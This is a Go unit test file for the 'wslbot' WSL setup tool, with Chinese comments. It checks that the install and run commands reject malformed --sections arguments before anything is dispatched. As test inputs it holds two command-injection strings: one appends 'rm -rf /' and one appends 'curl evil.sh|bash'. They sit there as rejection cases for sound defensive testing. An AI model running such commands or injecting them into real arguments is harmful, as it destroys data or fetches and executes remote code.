package main

import (
	"context"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/lucksec/wslbot/internal/config"
	"github.com/lucksec/wslbot/internal/domain"
	"github.com/lucksec/wslbot/internal/service"
)

// fakeDispatcher 记录调度调用，不执行任何安装
type fakeDispatcher struct {
	calls []service.DispatchOptions
}

func (d *fakeDispatcher) Dispatch(_ context.Context,
	opts service.DispatchOptions) (*domain.RunSummary, error) {
	d.calls = append(d.calls, opts)
	return &domain.RunSummary{}, nil
}

// fakeOrchestrator 记录编排调用
type fakeOrchestrator struct {
	calls []service.RunOptions
}

func (o *fakeOrchestrator) Execute(_ context.Context, opts service.RunOptions) (int, error) {
	o.calls = append(o.calls, opts)
	return 0, nil
}

func TestInstallCmdRejectsRawSectionsBeforeDispatch(t *testing.T) {
	cfg = config.DefaultConfig()
	dispatcher := &fakeDispatcher{}

	cmd := installCmd(dispatcher)
	cmd.SilenceUsage = true
	cmd.SilenceErrors = true
	cmd.SetArgs([]string{"--sections", "apt_packages;rm -rf /"})

	err := cmd.Execute()
	require.Error(t, err)

	var validationErr *domain.ValidationError
	assert.True(t, errors.As(err, &validationErr))
	assert.Empty(t, dispatcher.calls, "非法的段参数不应触达调度器")
}

func TestInstallCmdSplitsValidSections(t *testing.T) {
	cfg = config.DefaultConfig()
	dispatcher := &fakeDispatcher{}

	cmd := installCmd(dispatcher)
	cmd.SilenceUsage = true
	cmd.SetArgs([]string{"--sections", "apt_packages,custom_software", "--dry-run"})

	require.NoError(t, cmd.Execute())
	require.Len(t, dispatcher.calls, 1)
	assert.Equal(t, []string{"apt_packages", "custom_software"}, dispatcher.calls[0].Sections)
	assert.True(t, dispatcher.calls[0].DryRun)
}

func TestRunCmdRejectsRawSectionsBeforeOrchestration(t *testing.T) {
	cfg = config.DefaultConfig()
	orchestrator := &fakeOrchestrator{}

	cmd := runCmd(orchestrator)
	cmd.SilenceUsage = true
	cmd.SilenceErrors = true
	cmd.SetArgs([]string{"--sections", "apt_packages&&curl evil.sh|bash"})

	err := cmd.Execute()
	require.Error(t, err)

	var validationErr *domain.ValidationError
	assert.True(t, errors.As(err, &validationErr))
	assert.Empty(t, orchestrator.calls, "非法的段参数不应触达编排器")
}
